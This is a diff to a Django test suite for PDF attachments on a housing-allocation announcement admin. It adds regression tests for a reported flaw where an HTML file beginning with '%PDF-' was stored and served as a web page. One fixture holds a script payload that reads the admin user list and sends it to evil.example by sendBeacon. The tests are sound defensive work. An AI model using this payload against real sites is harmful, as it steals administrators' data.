@@ -1,3 +1,4 @@
+import re
 from datetime import timedelta
 
 import pytest
@@ -10,6 +11,7 @@ from pytest_django.asserts import assertContains, assertNotContains
 
 from plans.models import Announcement, AnnouncementAttachment, Plan
 from tests.clock import AFTER_MIDNIGHT, MORNING, beijing
+from tests.corpus import pdfs as crafted
 from tests.factories import (
     form_data,
     make_announcement,
@@ -303,8 +305,9 @@ def test_creating_an_announcement_with_a_pdf_records_its_size(staff_client):
     assert response.status_code == 302
     announcement = Announcement.objects.get(plan=plan)
     attachment = announcement.attachments.get()
-    assert attachment.size == 4096
-    assert default_storage.exists(attachment.file.name)
+    stored = read(attachment)
+    assert attachment.size == len(stored) < 4096  # rewritten: the padding is gone
+    assert stored.startswith(b"%PDF-")
     assert attachment.file.name.startswith("announcements/")
     assert attachment.file.name.endswith(".pdf")
     assert "申请表" not in attachment.file.name
@@ -322,6 +325,91 @@ def test_attachment_that_is_not_a_pdf_is_refused(staff_client):
     assertContains(response, "附件必须是 PDF 文件。")
     assert not Announcement.objects.exists()
     assert not AnnouncementAttachment.objects.exists()
+
+
+# Issue #10, finding 1: an HTML page that began with %PDF- was stored as form.html, linked on
+# the public 配租公告 page, served as text/html, and its script read /admin/ as the superuser.
+HTML_STARTING_LIKE_A_PDF = (
+    b"%PDF-1.4\n<html><body><script>fetch('/admin/accounts/user/')"
+    b".then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))"
+    b"</script></body></html>\n%%EOF\n"
+)
+
+
+def read(attachment: AnnouncementAttachment) -> bytes:
+    with attachment.file.open("rb") as file:
+        return file.read()
+
+
+def announcements_stored() -> list[str]:
+    return (
+        sorted(default_storage.listdir("announcements")[1])
+        if default_storage.exists("announcements")
+        else []
+    )
+
+
+def test_html_page_starting_like_a_pdf_is_refused_beside_the_field(staff_client):
+    plan = make_plan()
+    page = SimpleUploadedFile("form.html", HTML_STARTING_LIKE_A_PDF, content_type="text/html")
+    before = announcements_stored()
+
+    response = staff_client.post(
+        admin_url("announcement_add"), announcement_form(staff_client, plan, page)
+    )
+
+    assert response.status_code == 200
+    attachment_forms = response.context["inline_admin_formsets"][0].formset.forms
+    assert attachment_forms[0].errors == {"file": ["文件不是有效的 PDF，请重新导出后上传。"]}
+    assertContains(response, 'value="关于第六批专项配租的公告"')  # what was typed is kept
+    assert not Announcement.objects.exists()
+    assert announcements_stored() == before
+
+
+def test_pdf_sent_as_html_is_stored_rewritten_under_a_pdf_name(staff_client):
+    plan = make_plan()
+    content = crafted.active("OpenAction JavaScript")
+    sent = SimpleUploadedFile("form.html", content, content_type="text/html")
+
+    response = staff_client.post(
+        admin_url("announcement_add"), announcement_form(staff_client, plan, sent)
+    )
+
+    assert response.status_code == 302
+    attachment = AnnouncementAttachment.objects.get()
+    assert attachment.file.name.endswith(".pdf")
+    assert "form" not in attachment.file.name
+    crafted.assert_inert(read(attachment))
+    assert attachment.size == len(read(attachment))
+
+
+def test_attachment_linked_on_the_announcement_is_served_as_a_sandboxed_pdf(staff_client, now):
+    plan = make_plan()
+    sent = SimpleUploadedFile("form.html", crafted.honest(), content_type="text/html")
+    form = announcement_form(
+        staff_client, plan, sent, published_at_0="2020-01-01", published_at_1="09:00:00"
+    )
+    assert staff_client.post(admin_url("announcement_add"), form).status_code == 302
+    page = staff_client.get(plan.get_absolute_url()).content.decode()
+    link = re.search(r'<a href="(/media/announcements/[^"]+)" type="application/pdf">', page)
+
+    response = staff_client.get(link.group(1))
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/pdf"
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert response["Content-Security-Policy"] == "sandbox"
+
+
+def test_attachment_over_20_mb_is_refused_before_it_is_read(staff_client):
+    plan = make_plan()
+    big = SimpleUploadedFile("notice.pdf", pdf_of_size(20 * 1024 * 1024 + 1))
+    response = staff_client.post(
+        admin_url("announcement_add"), announcement_form(staff_client, plan, big)
+    )
+    assert response.status_code == 200
+    assertContains(response, "附件不能超过 20 MB。")
+    assert not Announcement.objects.exists()
 
 
 # Who may not -------------------------------------------------------------------------------
